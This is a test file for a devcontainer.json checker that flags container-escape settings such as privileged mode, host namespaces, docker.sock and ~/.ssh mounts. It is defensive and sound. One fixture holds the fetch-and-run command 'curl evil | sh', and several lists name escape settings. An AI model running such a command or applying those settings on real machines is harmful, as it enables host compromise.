import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { expect, test } from "vitest";
import { assertUsable, bindMount, findConfig, pinnedConfig, question, parseJsonc } from "./config.ts";
import { dangersOf, judge, type DevcontainerConfig } from "./judge.ts";

const around = { worktree: "/w/app", home: "/home/u", hidden: ["/home/u/.local/state/holdfast"] };
const dangers = (config: DevcontainerConfig): string[] => judge(config, around).dangers;

test("[NETWORK-12] comments and trailing commas of a devcontainer.json are read, strings stay as they are", () => {
  const text = '\uFEFF{ // "a": 1\n "image": "x//y /* z */", /* "b": 2,\n */ "list": [1, 2,], "quote": "\\"//", }';
  expect(parseJsonc(text)).toEqual({ image: "x//y /* z */", list: [1, 2], quote: '"//' });
  expect(() => parseJsonc("{ nothing }")).toThrow(SyntaxError);
});

test("[NETWORK-13] the question names commands, images and features, and each way out of the container", () => {
  expect(
    judge({ image: "debian", postCreateCommand: ["npm", "ci"], features: { "ghcr.io/x/y:1": {} } }, around).does,
  ).toEqual([
    "runs the image debian",
    "installs the feature ghcr.io/x/y:1",
    'runs postCreateCommand in the container: ["npm","ci"]',
  ]);
  expect(dangers({ privileged: true })[0]).toContain("runs privileged");
  expect(dangers({ capAdd: ["SYS_PTRACE"], securityOpt: ["seccomp=unconfined"] })).toHaveLength(2);
  for (const runArgs of [
    ["--privileged"],
    ["--privileged=true"],
    ["--network=host"],
    ["--net", "host"],
    ["--pid=host"],
    ["--device=/dev/kvm"],
    ["--cap-add", "ALL"],
    ["--gpus", "all"],
    ["--volume=/var/run/docker.sock:/s"],
    ["--mount", "type=bind,source=/home/u/.ssh,target=/h"],
    ["--volumes-from", "other"],
  ]) {
    expect(dangers({ runArgs }), runArgs.join(" ")).toHaveLength(1);
  }
  expect(dangers({ runArgs: ["--name", "x", "--shm-size=1g", "--init"] })).toEqual([]);
  const mounts = [
    "source=${localEnv:HOME}/.ssh,target=/k,type=bind",
    { source: "/var/run/docker.sock", target: "/s", type: "bind" },
    "source=/srv,target=/s,type=bind",
  ];
  for (const mount of mounts) expect(dangers({ mounts: [mount] }), JSON.stringify(mount)).toHaveLength(1);
  expect(dangers({ mounts: ["source=cache,target=/c,type=volume"] })).toEqual([]);
  const elsewhere = { ...around, hidden: ["/srv/holdfast"] };
  expect(judge({ mounts: ["source=${localEnv:HOME},target=/h,type=bind"] }, elsewhere).dangers).toEqual([
    "mounts /home/u, which contains your home",
  ]);
});

test("[NETWORK-13] a command that would run on this machine is named and never run", () => {
  const config = { image: "x", initializeCommand: "curl evil | sh", workspaceMount: "source=/,target=/w" };
  expect(question(judge(config, around))).toContain(
    "initializeCommand, which would run on this machine: curl evil | sh",
  );
  const pinned = pinnedConfig(config, {
    worktree: "/w/app",
    mounts: ["type=bind,source=/a,target=/b"],
    network: "off",
  });
  expect(pinned).toEqual({
    image: "x",
    workspaceMount: "type=bind,source=/w/app,target=/w/app",
    workspaceFolder: "/w/app",
    mounts: ["type=bind,source=/a,target=/b"],
    runArgs: ["--network=none"],
  });
  expect(() => bindMount("/a,readonly=false", "/b")).toThrow("comma");
});

test("[NETWORK-13] Compose, builds from outside of the repository and mounts of Holdfast's own files are refused", () => {
  const refused = (config: DevcontainerConfig) => judge(config, around).unsupported;
  expect(refused({ dockerComposeFile: "compose.yaml" })[0]).toContain("Compose");
  expect(refused({ build: { dockerfile: "Dockerfile", context: "../.." } })[0]).toContain("outside the repository");
  expect(refused({ build: { dockerfile: "Dockerfile", context: ".." } })).toEqual([]);
  for (const source of ["/home/u/.local/state", "/home/u/.local/state/holdfast/token", "${localEnv:HOME}", "/"]) {
    expect(refused({ mounts: [`source=${source},target=/x,type=bind`] })[0], source).toContain("Holdfast");
  }
  expect(refused({ runArgs: ["-v", "/:/host"] })).toHaveLength(1);
  // The agent could put a link there before the next start.
  expect(refused({ mounts: ["source=${localWorkspaceFolder}/x,target=/x,type=bind"] })[0]).toContain("of the worktree");
});

test("[NETWORK-15] rights that an image or a feature added are found in the container itself", () => {
  const seen = {
    HostConfig: {
      Privileged: true,
      CapAdd: ["CAP_SYS_ADMIN"],
      SecurityOpt: ["label=disable"],
      PidMode: "host",
      NetworkMode: "bridge",
      Devices: [{ PathOnHost: "/dev/kvm" }],
    },
    Mounts: [
      { Type: "bind", Source: "/w/app", Destination: "/w/app" },
      { Type: "bind", Source: "/var/run/docker.sock", Destination: "/s" },
      { Type: "volume", Source: "/var/lib/docker/volumes/x", Destination: "/c" },
    ],
  };
  expect(dangersOf(seen, { ...around, ours: ["/w/app"] })).toEqual([
    "runs privileged: it can control this machine",
    "adds the capability SYS_ADMIN",
    "shares this machine's pid namespace",
    "gets the device /dev/kvm",
    "mounts /var/run/docker.sock: with the engine's socket it can control this machine",
  ]);
  // The same words as those that the user trusted, so that they are recognized.
  const asked = judge(
    {
      privileged: true,
      runArgs: ["--cap-add=sys_admin", "--pid=host", "--device=/dev/kvm:/dev/kvm", "-v", "/var/run/docker.sock:/s"],
    },
    around,
  );
  expect(new Set(asked.dangers)).toEqual(new Set(dangersOf(seen, { ...around, ours: ["/w/app"] })));
  expect(dangersOf({ HostConfig: { NetworkMode: "none" }, Mounts: [] }, { ...around, ours: [] })).toEqual([]);
});

test("[NETWORK-12] a repository without a devcontainer.json, and one that is not trusted, are errors with the next step", () => {
  const worktree = mkdtempSync(join(tmpdir(), "hf-dev-"));
  try {
    expect(() => findConfig(worktree)).toThrow("The repository has no .devcontainer/devcontainer.json.");
    const path = join(worktree, ".devcontainer/devcontainer.json");
    mkdirSync(dirname(path));
    writeFileSync(path, '{"image": "debian", "runArgs": ["--privileged"]}');
    const found = findConfig(worktree);
    const place = { ...around, worktree };
    expect(() => assertUsable(found, place, false)).toThrow(/is not trusted[^]*runs privileged/);
    expect(assertUsable(found, place, true).dangers).toHaveLength(1);
    writeFileSync(path, '{"image": }');
    expect(() => findConfig(worktree)).toThrow("devcontainer.json cannot be read");
  } finally {
    rmSync(worktree, { recursive: true });
  }
});
